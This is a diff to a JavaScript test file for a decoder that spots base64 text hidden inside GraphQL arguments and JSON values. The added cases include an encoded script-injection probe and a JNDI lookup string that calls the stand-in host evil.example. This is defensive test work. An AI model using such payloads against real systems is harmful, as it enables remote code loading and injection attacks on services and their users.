@@ -100,6 +100,11 @@ describe("decoded forms of a target", () => {
     ["iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg", null],
     ["please send the parcel to my office before noon", null],
     ["Hello World", null],
+    // a run of base64 inside a value: a GraphQL argument, a JSON text
+    ['query { search(q: "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg") { id } }', "<script>alert(1)</script>"],
+    ['{"data":"JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0="}', "${jndi:ldap://evil.example/a}"],
+    ["session 3f9a2c7e1b8d4f6a9c0e2d4b6f8a1c3e expired", null],
+    ["token=eyJhbGciOiJIUzI1NiJ9x9fQ2kLmN0pQrStUvWxYz012345", null],
   ];
   for (const [value, text] of base64Cases) {
     it(`read ${value.slice(0, 24)}... as ${text === null ? "no base64 text" : "base64 text"}`, () => {
